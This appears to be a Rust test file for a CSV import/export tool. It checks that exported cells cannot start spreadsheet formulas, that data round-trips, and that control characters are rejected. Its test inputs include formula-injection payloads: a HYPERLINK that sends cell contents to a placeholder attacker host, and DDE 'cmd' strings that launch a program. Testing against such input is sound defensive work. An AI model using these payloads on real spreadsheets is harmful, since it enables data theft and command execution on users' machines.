//! Exports cannot carry formulas into a spreadsheet, round-trip through
//! the importer, and names refuse control characters.

mod common;

use common::*;

fn ok(home: &std::path::Path, args: &[&str]) -> String {
    let o = rapport(home, args);
    assert!(o.status.success(), "{args:?}: {}", stderr(&o));
    stdout(&o)
}

const NASTY: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=already quoted",
];

on_both! {
fn formula_cells_are_neutralized_in_csv_and_excel_and_round_trip(kind) {
    let Some(book) = Book::empty(kind) else { return };
    let h = book.home.path();
    let db = book.db.as_str();
    std::fs::write(h.join("m.csv"), "login,name,role\n=1+2,@Boss,lead\n").unwrap();
    ok(
        h,
        &["--db", db, "import", "managers", h.join("m.csv").to_str().unwrap()],
    );
    let mut clients = String::from("ref,name,segment,manager,created\n");
    for (i, name) in NASTY.iter().enumerate() {
        clients.push_str(&format!(
            "R{i},\"{}\",,=1+2,2026-01-0{}\n",
            name.replace('"', "\"\""),
            i + 1
        ));
    }
    std::fs::write(h.join("c.csv"), &clients).unwrap();
    ok(h, &["--db", db, "import", "clients", h.join("c.csv").to_str().unwrap()]);
    std::fs::write(
        h.join("s.csv"),
        "client,date,amount,product,doc\nR0,2026-11-02,-12.50,,=DOC\n",
    )
    .unwrap();
    ok(
        h,
        &["--db", db, "import", "settlements", h.join("s.csv").to_str().unwrap()],
    );

    // Every CSV that carries typed text: no cell starts a formula.
    let exports = [
        ok(h, &["--db", db, "export", "clients"]),
        ok(h, &["--db", db, "export", "managers"]),
        ok(h, &["--db", db, "export", "settlements"]),
        ok(h, &["--db", db, "classes", "--format", "csv"]),
        ok(
            h,
            &[
                "--db",
                db,
                "report",
                "managers",
                "--from",
                "2026-11-01",
                "--to",
                "2026-11-30",
                "--excel",
            ],
        ),
    ];
    for text in &exports {
        let delimiter = if text.starts_with('\u{feff}') { b';' } else { b',' };
        let mut r = csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .has_headers(false)
            .flexible(true)
            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        for record in r.records() {
            for cell in record.unwrap().iter() {
                let starts = cell.chars().next();
                let number = cell
                    .strip_prefix('-')
                    .is_some_and(|n| n.starts_with(|c: char| c.is_ascii_digit()));
                assert!(
                    !matches!(starts, Some('=' | '+' | '@' | '\t' | '\r')) && (!cell.starts_with('-') || number),
                    "a formula cell {cell:?} in\n{text}"
                );
            }
        }
    }
    assert!(exports[4].contains("\n'=1+2;"), "{}", exports[4]);
    assert!(
        exports[2].contains("-12.50"),
        "a negative amount is a number, kept as is: {}",
        exports[2]
    );

    // Export → import into an empty database → export: the same text.
    let Some(copy) = Book::empty(kind) else { return };
    let copy = copy.db.as_str();
    for kind in ["managers", "clients", "settlements"] {
        let file = h.join(format!("out-{kind}.csv"));
        std::fs::write(&file, ok(h, &["--db", db, "export", kind])).unwrap();
        ok(h, &["--db", copy, "import", kind, file.to_str().unwrap()]);
    }
    for kind in ["managers", "clients", "settlements"] {
        assert_eq!(
            ok(h, &["--db", copy, "export", kind]),
            ok(h, &["--db", db, "export", kind]),
            "{kind} do not round-trip"
        );
    }
    let names = |db: &str| -> Vec<String> {
        let text = ok(h, &["--db", db, "export", "clients", "--format", "json"]);
        let v: serde_json::Value = serde_json::from_str(&text).unwrap();
        v.as_array()
            .unwrap()
            .iter()
            .map(|c| c["name"].as_str().unwrap().to_string())
            .collect()
    };
    let stored = names(db);
    assert_eq!(names(copy), stored, "the names changed on the way");
    // As typed, except the cell that came in already escaped ('=…), whose
    // quote the importer takes off as it does for rapport's own exports.
    let mut want: Vec<String> = NASTY.iter().map(|s| s.trim_start_matches('\'').to_string()).collect();
    let mut got = stored;
    got.sort();
    want.sort();
    assert_eq!(got, want);
}

fn names_and_refs_with_control_characters_are_refused_at_their_line(kind) {
    let Some(book) = Book::empty(kind) else { return };
    let h = book.home.path();
    let db = book.db.as_str();
    let file = h.join("c.csv");
    std::fs::write(
        &file,
        "ref,name,segment,manager,created\nA1,Fine,,,2026-01-01\nA2,\"Two\nBEGIN:VEVENT\",,,2026-01-01\n",
    )
    .unwrap();
    let o = rapport(h, &["--db", db, "import", "clients", file.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2), "{}", stdout(&o));
    let err = stderr(&o);
    assert!(err.contains("c.csv:3:") && err.contains("one line"), "{err}");
    // A leading tab is not trimmed into a formula: it is refused.
    std::fs::write(&file, "ref,name,segment,manager,created\nA3,\t=2,,,2026-01-01\n").unwrap();
    let o = rapport(h, &["--db", db, "import", "clients", file.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2), "{}", stdout(&o));
    assert!(
        stderr(&o).contains("c.csv:2:") && stderr(&o).contains("one line"),
        "{}",
        stderr(&o)
    );
    assert_eq!(
        ok(h, &["--db", db, "export", "clients"]).lines().count(),
        1,
        "something was imported"
    );
    // An unterminated quote is an error, not a swallowed file.
    std::fs::write(
        &file,
        "ref,name,segment,manager,created\nA1,\"Open,,,2026-01-01\nA2,Next,,,2026-01-01\n",
    )
    .unwrap();
    let o = rapport(h, &["--db", db, "import", "clients", file.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("c.csv:2: a quoted field opened on this line is never closed"),
        "{}",
        stderr(&o)
    );
}

/// A settlements file from French Excel: `;`, a BOM, decimal commas and
/// thousands grouped with spaces (plain and no-break).
fn french_excel_amounts_with_grouped_thousands_import(kind) {
    let Some(book) = Book::empty(kind) else { return };
    let h = book.home.path();
    let db = book.db.as_str();
    let file = h.join("fr.csv");
    std::fs::write(
        &file,
        "\u{feff}client;date;amount;product;doc\nFR1;02/11/2026;1 200,00;;F-1\nFR1;03/11/2026;-12\u{a0}345,50;;F-2\n",
    )
    .unwrap();
    ok(
        h,
        &[
            "--db",
            db,
            "import",
            "settlements",
            file.to_str().unwrap(),
            "--create-missing",
        ],
    );
    let text = ok(h, &["--db", db, "export", "settlements"]);
    assert!(text.contains(",1200.00,") && text.contains(",-12345.50,"), "{text}");
    // A comma file keeps amounts strict: a space is not a separator there.
    let comma = h.join("en.csv");
    std::fs::write(&comma, "client,date,amount,product,doc\nFR1,2026-11-04,1 200.00,,E-1\n").unwrap();
    let o = rapport(h, &["--db", db, "import", "settlements", comma.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("en.csv:2:"), "{}", stderr(&o));
}
}
